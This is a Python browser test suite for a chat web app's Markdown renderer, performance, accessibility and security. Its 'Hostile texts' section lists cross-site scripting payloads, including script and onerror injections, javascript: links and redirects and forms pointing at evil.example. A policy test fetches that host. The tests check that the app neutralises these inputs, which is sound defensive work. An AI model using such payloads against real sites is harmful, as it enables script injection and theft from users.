    page.wait(f"{DONE} && document.querySelector('{LAST}').textContent === 'One, two, three.'")
    request = server.requests[-1]
    assert request["messages"][-1] == {"role": "assistant", "content": "One, two"}
    assert (request["continue_final_message"], request["add_generation_prompt"]) == (True, False)


# ---- Markdown ----

HTML_OF = """const node = document.createElement("div");
const view = new MarkdownView(node);
for (const piece of arguments[0]) { view.append(piece); view.update(); }
view.update(true);
return node.innerHTML;"""

MARKDOWN = [
    ("a **b** *c* ~~d~~ `e*f*` _g_ h_i_j",
     "<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e*f*</code> <em>g</em> h_i_j</p>"),
    ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
    ("a ** b * c `d", "<p>a ** b * c `d</p>"),
    ("**open *too", "<p>**open *too</p>"),
    (r"\*a\* 2*3*4", "<p>*a* 2<em>3</em>4</p>"),
    ("# One\n### Two ##\n## Three", "<h3>One</h3><h4>Two</h4><h4>Three</h4>"),
    ("a\nb\n\nc", "<p>a<br>b</p><p>c</p>"),
    ("- a\n- b\n  - c\n- d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"),
    ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    ("- [x] a\n- [ ] b", "<ul><li>☑ a</li><li>☐ b</li></ul>"),
    ("> a\n> - b", "<blockquote><p>a</p><ul><li>b</li></ul></blockquote>"),
    ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
    ("<b>&amp;</b> &lt;i&gt; &copy;", "<p>&lt;b&gt;&amp;&lt;/b&gt; &lt;i&gt; &amp;copy;</p>"),
    ("a<br>b<br/>c<br x>", "<p>a<br>b<br>c&lt;br x&gt;</p>"),
    ("***a*** b", "<p><strong><em>a</em></strong> b</p>"),
    (
        "[a](https://b.example/c) https://d.example/e.",
        '<p><a href="https://b.example/c" target="_blank" rel="noopener noreferrer nofollow">a</a> '
        '<a href="https://d.example/e" target="_blank" rel="noopener noreferrer nofollow">https://d.example/e</a>.</p>',
    ),
    ("![a](https://b.example/c.png)", '<p><a href="https://b.example/c.png" target="_blank" '
     'rel="noopener noreferrer nofollow">a</a></p>'),
]  # fmt: skip


@pytest.mark.parametrize(("text", "html"), MARKDOWN)
def test_markdown(page: Browser, text: str, html: str) -> None:
    assert page.run(HTML_OF, [text]) == html


def test_each_paragraph_has_the_direction_of_its_text(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: text_answer("Peace\n\n\u05e9\u05dc\u05d5\u05dd\n\n```\n\u05e9\n```")
    ask(page, "Hi")
    is_left = page.run(
        """return [...document.querySelectorAll(".markdown p, .markdown pre")].map((node) => {
            const range = document.createRange();
            range.selectNodeContents(node);
            const [text, box] = [range.getBoundingClientRect(), node.getBoundingClientRect()];
            return text.left - box.left < box.right - text.right;
        });"""
    )
    assert is_left == [True, False, True]


def test_tables_and_code(page: Browser) -> None:
    html = page.run(HTML_OF, ["| a | b |\n|--:|:-:|\n| 1 | `x\\|y` |\n\n```python\nif x:  # é\n    '<b>'\n```"])
    assert '<th class="end" scope="col">a</th><th class="middle" scope="col">b</th>' in html
    assert '<td class="middle"><code>x|y</code></td>' in html
    assert '<span class="t-k">if</span> x:  <span class="t-c"># é</span>' in html
    assert "<span class=\"t-s\">'&lt;b&gt;'</span>" in html


def test_changes_are_coloured(page: Browser) -> None:
    html = page.run(HTML_OF, ["```diff\n-a\n+new b\n c\n```"])
    assert '<span class="t-r">-a</span>\n<span class="t-s">+new b</span>\n c\n' in html


SAMPLE = "\n\n".join(
    [*(text for text, _ in MARKDOWN), "```js\nconst a = `b\nc`; /* d\ne */ 1\n```", "| a |\n|--|\n| b |", "end"]
)


@pytest.mark.parametrize("seed", range(4))
def test_markdown_does_not_depend_on_how_it_is_divided(page: Browser, seed: int) -> None:
    rng = random.Random(seed)
    pieces, place = [], 0
    while place < len(SAMPLE):
        size = rng.randint(1, 12)
        pieces.append(SAMPLE[place : place + size])
        place += size
    assert page.run(HTML_OF, pieces) == page.run(HTML_OF, [SAMPLE])


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("A line of words.\n\n" * 6000, id="paragraphs"),
        pytest.param("word " * 20_000, id="words"),
        pytest.param("- an *item*\n" * 8000, id="items"),
        pytest.param("| a | b |\n|---|---|\n" + "| *x* | 1 |\n" * 9000, id="rows"),
        pytest.param("```js\n" + "let x = 1;\n" * 9000, id="code"),
        pytest.param("*" * 100_000, id="stars"),
        pytest.param("[" * 100_000, id="brackets"),
        pytest.param("`a" * 50_000, id="ticks"),
        pytest.param("![](" * 25_000, id="images"),
        pytest.param("| a " * 25_000, id="cells"),
        pytest.param("> " * 50_000, id="quotes"),
        pytest.param("\\" * 100_000, id="slashes"),
    ],
)
def test_the_work_for_a_long_answer_is_linear(page: Browser, text: str) -> None:
    """Counts the characters that are searched for markup, and the lines of code that are coloured."""
    pieces = [text[place : place + 50] for place in range(0, len(text), 50)]
    work = page.run(
        """const pieces = arguments[0];
        let work = 0;
        const [plain, line] = [window.inline, Highlighter.prototype.line];
        window.inline = (text, parent) => { work += text.length; return plain(text, parent); };
        Highlighter.prototype.line = function (text) { work += text.length; return line.call(this, text); };
        try {
          const view = new MarkdownView(document.createElement("div"));
          for (const piece of pieces) { view.append(piece); view.update(); }
          view.update(true);
        } finally { window.inline = plain; Highlighter.prototype.line = line; }
        return work;""",
        pieces,
    )
    assert work <= 10 * len(text) + 50 * 4000


def test_a_long_conversation_is_searched_once(page: Browser) -> None:
    drawn = page.run(
        """let parent = "";
        for (let i = 0; i < 100; i += 1) parent = addMessage({ parent, role: i % 2 ? "assistant" : "user" }).id;
        const plain = Object.values;
        let searched = 0;
        Object.values = (object) => { searched += object === current.messages; return plain(object); };
        try { show(); } finally { Object.values = plain; }
        return searched;"""
    )
    assert drawn == 1
    assert page.run("return document.querySelectorAll('.message').length") == 100


LONG_LINES = [
    pytest.param("a|b\n" + "-" * 200_000 + "|x", id="dashes"),
    pytest.param("a|b\n" + "|-" * 100_000 + "x", id="columns"),
    pytest.param("# x" + " " * 400_000 + "y", id="spaces of a heading"),
    pytest.param("# " + "#" * 400_000 + "y", id="hashes"),
    pytest.param("```" + " " * 400_000 + "`", id="spaces of a fence"),
    pytest.param("*x " + "`a` " * 100_000, id="an open mark"),
    pytest.param("a|b\n-|-\n" + "c|\n" * 200_000, id="rows of a table"),
]


@pytest.mark.parametrize("text", LONG_LINES)
def test_a_long_line_is_shown(page: Browser, text: str) -> None:
    """A pattern that takes quadratic time takes longer than the driver waits."""
    shown = page.run(
        """const node = document.createElement("div");
        const view = new MarkdownView(node);
        view.append(arguments[0]);
        view.update(true);
        return node.textContent.length;""",
        text,
    )
    assert shown >= 100_000


# ---- Hostile texts ----

XSS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](\tjavascript:window.hacked=1)",
    "[click](java&#10;script:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:x) [click](blob:x) [click](file:///etc/passwd)",
    '[a](https://x.example/"onmouseover="window.hacked=1)',
    "![x](https://tracker.example/pixel.png)",
    "https://x.example/\"onmouseover='window.hacked=1'",
    "```<img src=x onerror=window.hacked=1>\n</code></pre><script>window.hacked=1</script>\n```",
    "| <img src=x onerror=window.hacked=1> |\n|---|\n| </td><script>window.hacked=1</script> |",
    "`<script>window.hacked=1</script>`",
    "**<script>window.hacked=1</script>**",
    "- <details open ontoggle=window.hacked=1>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import url(https://evil.example)</style><link rel=stylesheet href=https://evil.example>",
    "<form action=https://evil.example><input name=a><button>send</button></form>",
    "</p></div></article></main><script>window.hacked=1</script>",
    "\u202e<script>window.hacked=1</script>\u0000",
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1}",
]


# The page's own elements, those of Markdown included: no img, iframe, object, base, meta, link or style.
OWN_TAGS = {
    *(
        "a",
        "article",
        "blockquote",
        "br",
        "button",
        "code",
        "del",
        "details",
        "dialog",
        "div",
        "em",
        "form",
        "h1",
        "h2",
    ),
    *("h3", "header", "hr", "input", "kbd", "label", "li", "main", "meter", "nav", "ol", "option", "p", "path"),
    *("script", "select", "span", "strong", "summary", "svg", "table", "tbody", "td", "textarea", "th", "thead", "tr"),
    *("pre", "ul"),
}


def test_no_text_becomes_a_part_of_the_page(page: Browser, server: FakeOpenAI) -> None:
    """In answers, reasoning, questions, titles, names of files, errors, and imported conversations."""
    corpus = "\n\n".join(XSS)
    tags = "[...new Set([...document.querySelectorAll('body *')].map((n) => n.localName))].sort()"
    server.answer = lambda request: [
        {"delta": {"reasoning_content": corpus}},
        {"delta": {"content": corpus}},
        {"delta": {"tool_calls": [{"index": 0, "function": {"name": XSS[1], "arguments": corpus}}]}},
        {"error": {"message": corpus}},
    ]
    page.run("addFiles(draftName(current), [{ name: arguments[0], text: arguments[0] }])", XSS[1])
    page.run("document.querySelector('#input').value = arguments[0]; send()", corpus)
    page.wait("document.querySelector('.failure')")
    file = {"name": XSS[1], "text": XSS[0]}
    message = {"id": XSS[1], "parent": "", "role": "assistant", "content": corpus, "reasoning": corpus, "files": [file]}
    message["calls"] = [{"name": XSS[1], "arguments": corpus}, None]
    conversation = {"title": XSS[1], "messages": {"x": message}}
    page.run("return importFile(new File([arguments[0]], 'x'))", json.dumps({"conversations": [conversation]}))
    for _ in range(2):
        assert set(page.run(f"return {tags}")) <= OWN_TAGS
        assert page.run("return document.scripts.length") == 1
        links = page.run("return [...document.querySelectorAll('.markdown a')].map((n) => [n.href, n.rel])")
        assert links
        assert all(href.startswith(("http://", "https://")) and "noopener" in rel for href, rel in links)
        attributes = "[...document.querySelectorAll('body *')].flatMap((n) => n.getAttributeNames())"
        assert [name for name in page.run(f"return {attributes}") if name.startswith("on") or name == "style"] == []
        page.click("#list li:first-child .title")
    assert page.run("return window.hacked ?? null") is None
    assert page.console() == []


def test_the_policy_lets_only_the_pages_own_script_run(page: Browser) -> None:
    policy = load_page().headers["Content-Security-Policy"]
    assert "unsafe" not in policy
    assert policy.startswith("default-src 'none'; script-src 'sha256-")
    page.run(
        """const script = document.createElement("script");
        try { script.textContent = "window.hacked = 1"; } catch { window.refused = 1; }
        document.body.append(script);
        try { document.body.innerHTML = "<b>x</b>"; } catch { window.refused += 1; }
        try { document.body.setAttribute("onclick", "window.hacked = 1"); } catch { window.refused += 1; }
        document.body.click();
        return fetch("https://evil.example/").catch(() => { window.refused += 1; });"""
    )
    assert page.run("return [window.hacked ?? null, window.refused]") == [None, 4]


# ---- Accessibility ----


def axe_source() -> str:
    for package in ("axe_playwright_python", "axe_core_python"):
        spec = find_spec(package)
        if spec is not None and spec.origin is not None:
            return (Path(spec.origin).parent / "axe.min.js").read_text()
    pytest.skip("axe-core-python is missing")


def violations(page: Browser) -> list[tuple[str, list[str]]]:
    if not page.run("return 'axe' in window"):
        page.command("Page.setBypassCSP", {"enabled": True})
        page.run(axe_source())
    found = page.run("return axe.run(document, { resultTypes: ['violations'] })")["violations"]
    return [(rule["id"], [node["html"][:150] for node in rule["nodes"]]) for rule in found]


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (1280, "dark"), (375, "light"), (375, "dark")])
def test_axe_finds_nothing(page: Browser, server: FakeOpenAI, width: int, scheme: str) -> None:
    page.resize(width, 800, scheme)
    assert violations(page) == []
    call = {"index": 0, "function": {"name": "weather", "arguments": '{"city": "Paris"}'}}
    server.answer = lambda request: [
        *[{"delta": {"reasoning_content": "Hm."}}, {"delta": {"tool_calls": [call]}}],
        *text_answer(SAMPLE, 1000),
    ]
    ask(page, "Hi")
    page.click('[aria-label="Answer again"]')
    page.wait(f"document.querySelector('.message:last-child .tools').textContent.includes('2/2') && {DONE}")
    page.run("document.querySelector('details').open = true")
    assert violations(page) == []
    page.run("document.querySelector('.message.user [aria-label=Edit]').click()")
    assert violations(page) == []
    if width < 500:
        page.click("#menu")
        page.wait("document.querySelector('#side').checkVisibility({ visibilityProperty: true })")
        assert violations(page) == []
        page.press("Escape")
    page.run("document.querySelector('#open-settings').click()")
    assert violations(page) == []


def test_nothing_is_wider_than_a_phone(page: Browser, server: FakeOpenAI) -> None:
    page.resize(375, 700)
    server.answer = lambda request: text_answer(SAMPLE + "\n\n```\n" + "x" * 500 + "\n```\n\n" + "y" * 500, 1000)
    ask(page, "z" * 300)
    widths = "[document.documentElement.scrollWidth, document.querySelector('#scroll').scrollWidth]"
    assert page.run(f"return {widths}") == [375, 375]
    page.run("document.querySelector('#open-settings').click()")
    assert page.run("return document.querySelector('#settings').scrollWidth") <= 375
    tops = "new Set([...document.querySelectorAll('#settings .row button')].map((n) => n.offsetTop))"
    assert page.run(f"return {tops}.size") == 1, "the buttons are in one row"


def test_the_keyboard_reaches_everything_in_order(page: Browser) -> None:
    page.run("document.body.tabIndex = -1; document.body.focus(); document.body.removeAttribute('tabindex')")
    names = []
    for _ in range(12):
        page.press("Tab")
        names.append(page.run("const n = document.activeElement; return n.ariaLabel ?? n.textContent"))
    assert names[:6] == [
        "Skip to the message box",
        "Colours: system",
        "Settings",
        "New conversation",
        "Search conversations",
        "Conversations",
    ]
    page.press("Control", "k")
    assert page.run("return document.activeElement.id") == "search"


def test_the_focus_is_kept_when_something_is_drawn_again(page: Browser, server: FakeOpenAI) -> None:
    """By keyboard alone: answers, versions, an edit that is given up, a conversation that is renamed and deleted."""
    focus = "document.activeElement"
    name = f"{focus}.ariaLabel ?? {focus}.textContent"
    ask(page, "One")
    page.run("document.querySelector('[aria-label=\"Answer again\"]').focus()")
    page.press("Enter")
    page.wait(f"document.querySelector('.message:last-child .tools').textContent.includes('2/2') && {DONE}")
    assert page.run(f"return {name}") == "Message"
    page.run("document.querySelector('[aria-label=\"Previous version\"]').focus()")
    page.press("Enter")
    page.wait("document.querySelector('.message:last-child .tools').textContent.includes('1/2')")
    assert page.run(f"return {name}") == "Message", "there is no version before"
    page.run("document.querySelector('.message.user [aria-label=Edit]').focus()")
    page.press("Enter")
    assert page.run(f"return {name}") == "Edit message"
    page.press("Escape")
    assert page.run(f"return {name}") == "Edit"
    page.run(
        "document.querySelector('#list .rename').focus(); window.prompt = () => 'Two'; window.confirm = () => true"
    )
    page.press("Enter")
    assert page.run(f"return {name}") == "Rename Two"
    page.press("Tab")
    assert page.run(f"return {name}") == "Delete Two"
    page.press("Enter")
    assert page.run(f"return {name}") in ("Search conversations", "Message")


def test_colours_can_be_chosen(page: Browser, server: FakeOpenAI) -> None:
    background = "getComputedStyle(document.body).backgroundColor"
    light = page.run(f"return {background}")
    page.click("#theme")
    page.click("#theme")
    dark = page.run(f"return {background}")
    assert light != dark
    open_page(page, server)
    assert page.run(f"return {background}") == dark
